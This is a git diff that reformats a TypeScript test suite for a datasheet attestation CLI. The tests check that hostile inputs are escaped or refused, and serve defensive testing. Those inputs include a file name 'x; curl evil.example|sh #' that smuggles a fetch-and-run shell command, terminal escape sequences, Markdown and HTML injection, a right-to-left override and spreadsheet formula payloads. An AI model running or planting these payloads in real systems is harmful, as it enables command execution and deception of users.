@@ -19,7 +19,16 @@ import { renderExplanation } from "../../src/render/explain.js";
 import { renderReportCsv } from "../../src/presume/report.js";
 import { rulesAt } from "../../src/rules/rules.js";
 import { runCli } from "../cli.js";
-import { acme, attestExample, DATE, envelopeBytes, exampleDatasheet, ISSUED_AT, signEdited, trust } from "./fixtures.js";
+import {
+  acme,
+  attestExample,
+  DATE,
+  envelopeBytes,
+  exampleDatasheet,
+  ISSUED_AT,
+  signEdited,
+  trust,
+} from "./fixtures.js";
 
 const HOW = { envelopeFile: "attestation.json", trustFile: "trusted-designers.json" };
 
@@ -32,11 +41,15 @@ describe("attest refuses names a verifier's terminal or document would run", () 
     ["U+FFFF", "ACME\uffff"],
   ])("regression: a part name with %s is refused", (_, part) => {
     expect(() => attestExample(acme, "Acme Semi", { ...exampleDatasheet(), part })).toThrow(InvalidInputError);
-    expect(() => attestExample(acme, "Acme Semi", { ...exampleDatasheet(), part })).toThrow(/^part: holds the character U\+/);
+    expect(() => attestExample(acme, "Acme Semi", { ...exampleDatasheet(), part })).toThrow(
+      /^part: holds the character U\+/,
+    );
   });
 
   it("regression: a designer name with a control character is refused", () => {
-    expect(() => attestExample(acme, "Acme\x1b]0;owned\x07Semi")).toThrow(/^designer: holds the character U\+001B at position 5/);
+    expect(() => attestExample(acme, "Acme\x1b]0;owned\x07Semi")).toThrow(
+      /^designer: holds the character U\+001B at position 5/,
+    );
   });
 
   it("ordinary names, with accents and punctuation, are signed", () => {
@@ -45,8 +58,18 @@ describe("attest refuses names a verifier's terminal or document would run", () 
 });
 
 describe("render --format md", () => {
-  const hostileInputs = { ...exampleDatasheet(), part: "X1 [click](https://evil.example) <img src=x> | *", datacenterRationale: "# heading\n- list [a](b)" };
-  const attested = attestDatasheet(hostileInputs, { designer: "Acme Semi", privateKey: acme.privateKey, publicKey: acme.publicKey, rules: rulesAt(DATE), issuedAt: ISSUED_AT });
+  const hostileInputs = {
+    ...exampleDatasheet(),
+    part: "X1 [click](https://evil.example) <img src=x> | *",
+    datacenterRationale: "# heading\n- list [a](b)",
+  };
+  const attested = attestDatasheet(hostileInputs, {
+    designer: "Acme Semi",
+    privateKey: acme.privateKey,
+    publicKey: acme.publicKey,
+    rules: rulesAt(DATE),
+    issuedAt: ISSUED_AT,
+  });
   const verified = verifyEnvelope(attested.envelope, trust);
 
   it("regression: escapes Markdown in every signed string (no link, HTML or table break survives)", () => {
@@ -61,12 +84,19 @@ describe("render --format md", () => {
   });
 
   it("regression: the verify command is shell-quoted (a bound file named x; curl evil.example|sh #)", () => {
-    const bound = signEdited((statement) => statement.subject.push({ name: "x; curl evil.example|sh #", digest: { sha256: "0".repeat(64) } }));
+    const bound = signEdited((statement) =>
+      statement.subject.push({ name: "x; curl evil.example|sh #", digest: { sha256: "0".repeat(64) } }),
+    );
     const result = verifyEnvelope(bound, trust, { boundFiles: [] });
     expect(result.ok).toBe(true);
     if (!result.ok) return;
-    const md = renderAttestation(result, "md", { envelopeFile: "my attestation.json", trustFile: "trust.json" }) as string;
-    expect(md.slice(md.indexOf("## Verify it yourself"))).toContain("ic3a090 verify 'my attestation.json' --trust trust.json --bind 'x; curl evil.example|sh #'");
+    const md = renderAttestation(result, "md", {
+      envelopeFile: "my attestation.json",
+      trustFile: "trust.json",
+    }) as string;
+    expect(md.slice(md.indexOf("## Verify it yourself"))).toContain(
+      "ic3a090 verify 'my attestation.json' --trust trust.json --bind 'x; curl evil.example|sh #'",
+    );
   });
 
   it("regression: shows the trace recomputed by verify; what was signed but not recomputed only under a heading that says so", () => {
@@ -129,10 +159,16 @@ describe("text outputs escape terminal control sequences from input", () => {
 
   it("regression: verify's report", () => {
     const dir = mkdtempSync(join(tmpdir(), "ic3a090-hostile-"));
-    const attested = attestDatasheet({ ...exampleDatasheet(), part: "EVIL\u202eX1" }, { designer: "Acme Semi", privateKey: acme.privateKey, publicKey: acme.publicKey, rules, issuedAt: ISSUED_AT });
+    const attested = attestDatasheet(
+      { ...exampleDatasheet(), part: "EVIL\u202eX1" },
+      { designer: "Acme Semi", privateKey: acme.privateKey, publicKey: acme.publicKey, rules, issuedAt: ISSUED_AT },
+    );
     writeFileSync(join(dir, "a.json"), envelopeBytes(attested.envelope));
     writeFileSync(join(dir, "acme.pub"), acme.publicPem);
-    writeFileSync(join(dir, "trust.json"), JSON.stringify({ designers: [{ name: "Acme Semi", publicKey: "acme.pub" }] }));
+    writeFileSync(
+      join(dir, "trust.json"),
+      JSON.stringify({ designers: [{ name: "Acme Semi", publicKey: "acme.pub" }] }),
+    );
     const run = runCli(["verify", join(dir, "a.json"), "--trust", join(dir, "trust.json")]);
     expect(run.status).toBe(0);
     expect(run.stdout).not.toContain("\u202e");
@@ -147,6 +183,7 @@ describe("the SVG stays well-formed XML for any part name", () => {
     const result = classifyDatasheet(parseDatasheet({ ...exampleDatasheet(), part }), rules);
     const svg = renderMap([{ kind: "classified", row: 2, part, datacenter: true, result }], rules);
     expect(svg).not.toContain("<script>");
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters.
     expect(svg).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/);
     expect(svg).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
     expect(svg).toContain("&lt;script&gt;&quot;a&quot;&amp;&apos;b&apos;");
@@ -161,13 +198,17 @@ describe("CSV the tool writes never runs in a spreadsheet", () => {
     const warnings: string[] = [];
     const { output } = classifyCatalogueCsv(csv, { rules, warn: (message) => warnings.push(message) });
     expect(output.split("\n")[1]).toMatch(/^"=HYPERLINK/);
-    expect(warnings).toEqual(["2 passed-through cells start like a spreadsheet formula (=, +, -, @, tab or CR); --excel-safe writes them as text"]);
+    expect(warnings).toEqual([
+      "2 passed-through cells start like a spreadsheet formula (=, +, -, @, tab or CR); --excel-safe writes them as text",
+    ]);
   });
 
   it("regression: with excelSafe (classify --excel-safe), passed-through cells are written as text", () => {
     const warnings: string[] = [];
     const { output } = classifyCatalogueCsv(csv, { rules, excelSafe: true, warn: (message) => warnings.push(message) });
-    expect(output.split("\n")[1]).toMatch(/^"'=HYPERLINK\(""http:\/\/x""\)",yes,1000,800,'@SUM\(A1\),8000,10,3A090.a.1/);
+    expect(output.split("\n")[1]).toMatch(
+      /^"'=HYPERLINK\(""http:\/\/x""\)",yes,1000,800,'@SUM\(A1\),8000,10,3A090.a.1/,
+    );
     expect(warnings).toEqual([]);
   });
 
@@ -180,7 +221,16 @@ describe("CSV the tool writes never runs in a spreadsheet", () => {
     const report = {
       quarter: { label: "2027Q1", first: "2027-01-01", last: "2027-03-31" },
       fabricator: { name: "=Fab", address: "@addr" },
-      rows: [{ designer: "+Designer", designerAddress: "-cmd", designerPointOfContact: "x", category: "c", products: ["=P"], orders: 1 }],
+      rows: [
+        {
+          designer: "+Designer",
+          designerAddress: "-cmd",
+          designerPointOfContact: "x",
+          category: "c",
+          products: ["=P"],
+          orders: 1,
+        },
+      ],
       undecided: [],
     };
     const text = renderReportCsv(report as unknown as Parameters<typeof renderReportCsv>[0]);
